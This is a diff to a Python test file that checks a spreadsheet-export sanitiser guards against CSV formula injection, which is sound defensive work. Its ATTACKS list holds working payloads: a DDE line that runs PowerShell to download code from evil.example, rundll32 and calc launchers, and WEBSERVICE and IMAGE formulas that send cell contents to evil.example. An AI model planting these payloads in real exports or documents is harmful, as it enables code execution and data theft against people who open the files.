@@ -2,9 +2,16 @@
 
 from __future__ import annotations
 
-import pytest
+import io
 
-from sentinel.report.cells import text_cell
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sentinel.report.cells import text_cell, text_cells
+from sentinel.report.columns import columns_of
+from sentinel.report.exports import csv_parts
 
 BODIES = (
     "1+1",
@@ -21,7 +28,32 @@ ATTACKS = (
     *(f"-{body}" for body in BODIES if body != "1+1"),
     *(f"{lead}=1+1" for lead in LEADS[1:]),
     *(f"{lead}-2+3" for lead in LEADS),
-    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u207b"),
+    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u207c\u207a\u207b\u208a\u208b\u208c"),
+    *(f"{lead}@SUM(A1)" for lead in ("\u00ad", "\u2060", "\u200e\u202a", "\u2003 ", "\x1f", "\x7f", "\x85")),
+    "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("https://evil.example/?x="&A1)',
+    '=IMAGE("https://evil.example/"&ENCODEURL(A1))',
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '=IFERROR(1/0,HYPERLINK("https://evil.example"))',
+    '="a"&"b"',
+    "={1,2}",
+    "=#REF!",
+    "=TODAY()",
+    "@A1",
+    "@'sheet one'!A1",
+    '@INDIRECT("A1")',
+    "+SUM(1,2)*cmd|'/C calc'!A0",
+    "+A1",
+    "-SUM(A1:A2)",
+    "-(1+2)",
+    "-5%-A1",
+    "-5% cmd|'/C calc'!A0",
+    "-5 x!A1",
+    "+1 SUM(A1)",
+    "-3,5*2",
+    "-5% fall;@SUM(A1)",
+    "-5% fall;\u00a0=1+1",
     "-1+cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
@@ -84,6 +116,25 @@ HARMLESS = (
     "Profit +5% @ bank",
     "(=1+1)",
     "'=1+1'",
+    "-12.5%",
+    "-40°C freeze lifts gas prices",
+    "-5%: copper falls",
+    "-3,000 jobs at the mill",
+    "+2.5pp swing in Norway",
+    "-$1.2bn charge, chip maker says",
+    "+7% for Tesla's shares? Not yet",
+    "-4% \u2013 worst week since May",
+    "-2.5% for AT&T and peers",
+    "+0.25%\u2026 and then?",
+    "5-year yields rise",
+    "Brent -3%, WTI -4%",
+    "A+ rating for Denmark",
+    "C=O bonds explained",
+    "Ask @fed: what is next?",
+    "S&P 500 = 7,000?",
+    "2+2",
+    "1-1",
+    "'quoted' from the start",
     "\u2013 Fed holds rates",
     "\u2014 live updates",
     "# of jobs up",
@@ -103,7 +154,7 @@ def test_lists_are_long_enough_to_mean_something() -> None:
 
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_text_cell_makes_an_attack_text(attack: str) -> None:
-    assert text_cell(attack).startswith("'")
+    assert any(cell.startswith("'") for cell in text_cell(attack).split(";"))
 
 
 @pytest.mark.parametrize("harmless", HARMLESS)
@@ -127,3 +178,24 @@ def test_text_cell_flattens_line_breaks_and_drops_what_cannot_be_written() -> No
 def test_text_cell_is_quick_on_long_text() -> None:
     assert text_cell("-5% " + "a-" * 50_000 + "(").startswith("'")
     assert text_cell("=" + ";" * 100_000).startswith("'")
+
+
+def test_attacks_and_harmless_texts_come_back_from_a_csv_as_texts() -> None:
+    texts = [*ATTACKS, *HARMLESS]
+    numbers = pd.DataFrame({"title": pd.Series(texts, dtype=object), "mood": [-0.75] * len(texts)})
+    content = b"".join(csv_parts(columns_of({"title": "headline", "mood": "mood"}), [numbers]))
+    read = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", keep_default_na=False, dtype={"title": str})
+    assert read["mood"].tolist() == [-0.75] * len(texts)
+    assert read["title"].tolist() == [text_cell(text) for text in texts]
+    assert read["title"].tolist()[len(ATTACKS) :] == list(HARMLESS)
+    assert all(cell.startswith("'") or ";'" in cell for cell in read["title"][: len(ATTACKS)])
+    assert content.count(b"\r\n") == len(texts) + 1
+
+
+@given(st.text())
+def test_text_cells_are_one_line_and_begin_no_formula(text: str) -> None:
+    (cell,) = text_cells([text])
+    assert cell == text_cell(text)
+    assert not set("\n\r\t\x00") & set(cell)
+    assert text_cell(cell) == cell
+    assert cell[:1] not in {"=", "@"}
